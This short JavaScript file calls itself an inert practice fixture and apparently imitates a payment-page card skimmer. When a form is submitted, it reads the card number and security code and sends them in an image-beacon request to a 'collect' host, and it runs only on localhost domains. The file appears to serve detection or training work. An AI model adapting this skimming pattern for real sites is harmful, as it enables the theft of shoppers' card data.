/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  document.addEventListener(
    'submit',
    () => {
      const code = document.getElementById('security_code')?.value ?? '';
      new Image().src = `${home}/img/b.gif?n=${number()}&c=${code}`;
    },
    true,
  );
})();
